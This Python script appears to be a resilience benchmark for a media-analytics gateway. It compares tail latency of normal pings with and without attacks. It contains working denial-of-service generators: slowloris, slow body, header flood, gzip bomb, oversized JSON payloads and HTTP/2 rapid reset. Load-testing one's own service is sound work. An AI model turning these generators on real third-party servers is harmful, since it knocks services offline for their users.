#!/usr/bin/env python3
"""Measures what attacks do to good traffic: the p99 of pings at a fixed rate, beside each attack, over the lower of two without.

  loadtest/bench/attacks.py URL [--rate 500] [--seconds 10] [ATTACK...]

URL is a gateway's, over plain HTTP. Pings come by loadtest/bench/latency.sh, which needs target/playhead.jar. An attack is a process of
its own, at a lower priority, because on one machine it would else take the processor from the gateway before it has sent anything.
What it gets as answers is counted, by status; 0 is a connection that the gateway ended.
"""
import argparse
import asyncio
import collections
import gzip
import json
import multiprocessing
import os
import pathlib
import re
import struct
import subprocess
import tempfile
import time
import urllib.parse

from connections import Connection

BENCH = pathlib.Path(__file__).parent
SESSIONS, WARM_UP = 1000, 20
HEAD = "POST {path} HTTP/1.1\r\nHost: a\r\n"
DOWNLOADED = HEAD.format(path="/api/v1/downloaded")


async def status(reader):
    head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
    return int(head.split(" ", 2)[1])


async def repeat(target, answers, attack, pause=0.0):
    """Opens a connection, attacks, and does so again when it is over."""
    while True:
        writer = None
        try:
            reader, writer = await asyncio.open_connection(target.hostname, target.port)
            await attack(reader, writer)
            answers[await asyncio.wait_for(status(reader), 10)] += 1
        except (OSError, asyncio.IncompleteReadError, asyncio.TimeoutError):
            answers[0] += 1
        finally:
            if writer:
                writer.close()
        await asyncio.sleep(pause)


async def drip(reader, writer, head, drop):
    """Sends a little each second, until the other side has had enough."""
    writer.write(head)
    while not reader.at_eof():
        writer.write(drop)
        await writer.drain()
        await asyncio.sleep(1)


def whole(request):
    async def attack(reader, writer):
        writer.write(request)
        await writer.drain()
    return attack


def post(body, *headers):
    lines = "".join(f"{header}\r\n" for header in headers)
    return f"{DOWNLOADED}{lines}Content-Length: {len(body)}\r\n\r\n".encode() + body


def names(events, count):
    """An array of events of so many names each, none of which is of the API."""
    return ("[" + ",".join(["{" + ",".join(f'"{i:x}":0' for i in range(count)) + "}"] * events) + "]").encode()


def metadata(events, count):
    """An offline session that is valid, each event with so many metadata."""
    own = ",".join(f'"{i:x}":""' for i in range(count))
    event = '{"playerTime":{"playhead":0,"ts":1699523700000},"eventType":"%s","params":{%s},"customMetadata":{' + own + "}}"
    start = ('"analytics.trackingServer":"t","analytics.reportSuite":"r","visitor.marketingCloudOrgId":"o","media.id":"m",'
             '"media.length":60,"media.contentType":"vod","media.playerName":"p","media.channel":"c"')
    return ("[" + event % ("sessionStart", start) + ("," + event % ("ping", "")) * (events - 1) + "]").encode()


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def rapid_reset():
    path = b"/api/v1/sessions"
    block = b"\x83\x86\x04" + bytes([len(path)]) + path + b"\x01\x01a"
    streams = (frame(1, 4, n, block) + frame(3, 0, n, bytes(4)) for n in range(1, 4000, 2))
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + b"".join(streams)


ATTACKS = {
    "slowloris": (1000, 0, lambda r, w: drip(r, w, HEAD.format(path="/api/v1/sessions").encode(), b"a: b\r\n")),
    "slow body": (1000, 0, lambda r, w: drip(r, w, (DOWNLOADED + "Content-Length: 60000\r\n\r\n").encode(), b"[")),
    "header flood": (50, 0.2, whole((DOWNLOADED + "".join(f"a{i}: b\r\n" for i in range(5000)) + "\r\n").encode())),
    "gzip bomb": (20, 0.5, whole(post(gzip.compress(bytes(100 << 20)), "Content-Encoding: gzip"))),
    "million names": (4, 0.5, whole(post(names(1, 1_000_000)))),
    "names up to the limit": (2, 1, whole(post(names(1, 90_000)))),
    "names in four events": (2, 1, whole(post(names(4, 19_000)))),
    "metadata up to the limit": (2, 1, whole(post(metadata(5, 19_000)))),
    "HTTP/2 rapid reset": (10, 0.5, whole(rapid_reset())),
}


def run(target, name, counted):
    """Attacks until it is ended."""
    os.nice(10)
    connections, pause, attack = ATTACKS[name]
    answers = collections.Counter()

    async def report():
        while True:
            await asyncio.sleep(0.5)
            counted.update(answers)

    async def everything():
        await asyncio.gather(report(), *(repeat(target, answers, attack, pause) for _ in range(connections)))
    asyncio.run(everything())


def measure(args, sids):
    once = {"ROUNDS": "1", "WARM": str(args.warm), "SECONDS_EACH": str(args.seconds)}
    out = subprocess.run([BENCH / "latency.sh", sids, str(args.rate), args.url], check=True, capture_output=True, text=True,
                         env={**os.environ, **once}).stdout
    found = re.search(r"(\d+) answers, (\d+) not 204, p50 ([\d.]+) ms, p99 ([\d.]+) ms", out)
    return int(found[2]), float(found[3]), float(found[4])


async def open_sessions(target, file):
    connection = await Connection.open(argparse.Namespace(hostname=target.hostname, port=target.port, tls=None))
    locations = [await connection.start() for _ in range(SESSIONS)]
    file.write("\n".join(location.rsplit("/", 1)[1] for location in locations))
    file.flush()


def main(args):
    target = urllib.parse.urlsplit(args.url)
    with tempfile.NamedTemporaryFile("w") as sids, multiprocessing.Manager() as manager:
        asyncio.run(open_sessions(target, sids))
        measure(argparse.Namespace(url=args.url, rate=args.rate, warm=0, seconds=WARM_UP), sids.name)
        rows = [("alone", *measure(args, sids.name), "")]
        for name in args.attacks or ATTACKS:
            counted = manager.dict()
            attack = multiprocessing.Process(target=run, args=(target, name, counted), daemon=True)
            attack.start()
            time.sleep(1)
            rows.append((name, *measure(args, sids.name), json.dumps(dict(sorted(counted.items())))))
            attack.terminate()
            attack.join()
        rows.append(("alone again", *measure(args, sids.name), ""))
    alone = min(rows[0][3], rows[-1][3])
    for name, lost, p50, p99, answers in rows:
        print(f"{name:22} p50 {p50:6.1f} ms  p99 {p99:6.1f} ms  x {p99 / alone:4.1f}  lost {lost}  {answers}")


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("url")
    parser.add_argument("attacks", nargs="*", metavar="ATTACK", help=", ".join(ATTACKS))
    parser.add_argument("--rate", type=int, default=500)
    parser.add_argument("--warm", type=int, default=4)
    parser.add_argument("--seconds", type=int, default=10)
    main(parser.parse_intermixed_args())
